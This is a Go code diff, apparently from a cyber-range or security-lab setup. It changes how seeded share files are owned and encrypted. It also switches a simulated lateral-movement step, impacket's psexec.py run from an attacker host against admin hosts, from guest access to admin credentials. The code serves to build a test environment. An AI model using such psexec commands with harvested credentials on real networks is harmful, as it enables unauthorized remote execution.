@@ -177,10 +177,8 @@ func fillShare(_ context.Context, o *Office) error {
 		if err := os.WriteFile(path, text, 0o666); err != nil {
 			return err
 		}
-		if wholeMachine() {
-			if err := os.Chown(path, nobody, nobody); err != nil {
-				return err
-			}
+		if err := giveAway(path); err != nil {
+			return err
 		}
 		stream.XORKeyStream(text, text)
 		if err := os.WriteFile(filepath.Join(ready, name), text, 0o644); err != nil {
@@ -254,7 +252,7 @@ func lateral(ctx context.Context, o *Office) error {
 	return again(ctx, 60, func() error {
 		for _, name := range adminHosts {
 			one, cancel := context.WithTimeout(ctx, 10*time.Second)
-			cmd := o.Attacker().Command(one, "/usr/bin/python3", impacketDir+"psexec.py", "-no-pass", "guest@"+o.Host(name).Addr().String(), "hostname")
+			cmd := o.Attacker().Command(one, "/usr/bin/python3", impacketDir+"psexec.py", adminUser+":"+adminSecret+"@"+o.Host(name).Addr().String(), "hostname")
 			cmd.WaitDelay = time.Second
 			out, err := cmd.CombinedOutput()
 			cancel()
